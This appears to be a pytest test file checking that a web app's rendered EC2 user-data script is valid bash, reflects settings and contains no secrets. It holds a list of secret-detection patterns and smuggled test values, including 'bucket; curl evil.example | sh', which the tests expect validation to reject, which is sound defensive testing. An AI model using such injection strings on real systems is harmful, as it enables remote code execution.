"""The rendered user data: valid bash, the two settings, the app itself, and no secrets."""

from __future__ import annotations

import base64
import dataclasses
import gzip
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from program.webapp.user_data import (
    APP_FILE,
    USER_DATA_MAX_BYTES,
    AppEnvironment,
    render_user_data,
)
from shared.settings import EnvironmentSettings

KEY_ARN = "arn:aws:kms:us-west-2:111122223333:key/0000beef-0000-4000-8000-000000000001"
BUCKET = "webapp-development-data-111122223333-us-west-2"
# Shapes of secrets that must never appear in user data (it sits in clear text in state).
SECRET_PATTERNS = (
    r"PULUMI_CONFIG_PASSPHRASE",
    r"AWS_SECRET_ACCESS_KEY",
    r"aws_secret_access_key",
    r"AKIA[0-9A-Z]{16}",
    r"-----BEGIN [A-Z ]*PRIVATE KEY-----",
    # A literal credential-like value assigned in the script (the IMDS token is fetched at
    # boot with $(curl ...), which this does not match).
    r"(?i)(password|secret|token|passphrase)\w*\s*=\s*['\"]?[A-Za-z0-9/+=]{12,}",
)


def app_environment(settings: EnvironmentSettings) -> AppEnvironment:
    return AppEnvironment(
        environment=settings.environment,
        debug=settings.debug,
        log_level=settings.log_level,
        port=80,
        region=settings.region,
        bucket_name=BUCKET,
        kms_key_arn=KEY_ARN,
    )


@pytest.fixture(params=["development", "production"])
def settings(request: pytest.FixtureRequest) -> EnvironmentSettings:
    return request.getfixturevalue(request.param)  # type: ignore[no-any-return]


def test_user_data_is_valid_bash(settings: EnvironmentSettings, tmp_path: Path) -> None:
    bash = shutil.which("bash")
    assert bash, "bash is needed to check the user data"
    script = tmp_path / "user-data.sh"
    script.write_text(render_user_data(app_environment(settings)))
    result = subprocess.run([bash, "-n", str(script)], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr


def test_user_data_sets_debug_and_log_level_from_the_settings(
    settings: EnvironmentSettings,
) -> None:
    text = render_user_data(app_environment(settings))
    env_file = re.search(r"<<'WEBAPP_ENV'\n(.*?)^WEBAPP_ENV$", text, re.S | re.M)
    assert env_file
    values = dict(line.split("=", 1) for line in env_file.group(1).splitlines())
    assert values["DEBUG"] == ("true" if settings.debug else "false")
    assert values["LOG_LEVEL"] == settings.log_level
    assert values["ENVIRONMENT"] == settings.environment
    assert "EnvironmentFile=/etc/webapp/webapp.env" in text


def test_user_data_contains_no_secret(
    settings: EnvironmentSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Secrets present in the deploying shell must not leak into what is rendered.
    monkeypatch.setenv("PULUMI_CONFIG_PASSPHRASE", "correct-horse-battery-staple")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEKEY")
    text = render_user_data(app_environment(settings))
    for pattern in SECRET_PATTERNS:
        assert not re.search(pattern, text), pattern
    assert "correct-horse-battery-staple" not in text
    assert "wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEKEY" not in text


def test_user_data_installs_exactly_the_repositorys_app_and_heartbeat(
    development: EnvironmentSettings,
) -> None:
    text = render_user_data(app_environment(development))
    blob = re.search(r"<<'WEBAPP_SOURCE'[^\n]*\n(.*?)^WEBAPP_SOURCE$", text, re.S | re.M)
    assert blob
    assert gzip.decompress(base64.b64decode(blob.group(1))) == APP_FILE.read_bytes()
    assert "systemctl enable --now webapp.service webapp-heartbeat.service" in text
    assert '--ssekms-key-id "$APP_KMS_KEY_ARN"' in text
    assert "X-aws-ec2-metadata-token" in text


def test_a_changed_setting_changes_the_user_data(development: EnvironmentSettings) -> None:
    base = app_environment(development)
    rendered = render_user_data(base)
    assert render_user_data(base) == rendered
    assert render_user_data(dataclasses.replace(base, debug=False)) != rendered
    assert render_user_data(dataclasses.replace(base, log_level="ERROR")) != rendered


def test_user_data_fits_what_ec2_accepts(development: EnvironmentSettings) -> None:
    size = len(render_user_data(app_environment(development)).encode())
    assert size < USER_DATA_MAX_BYTES / 2


@pytest.mark.parametrize(
    "change",
    [
        {"bucket_name": "bucket; curl evil.example | sh"},
        {"environment": "dev\nDEBUG=true"},
        {"kms_key_arn": "alias/aws/s3"},
        {"log_level": "LOUD"},
        {"port": 0},
    ],
)
def test_unsafe_values_never_reach_the_script(
    development: EnvironmentSettings, change: dict[str, object]
) -> None:
    with pytest.raises(ValueError, match=next(iter(change))):
        dataclasses.replace(app_environment(development), **change)  # type: ignore[arg-type]
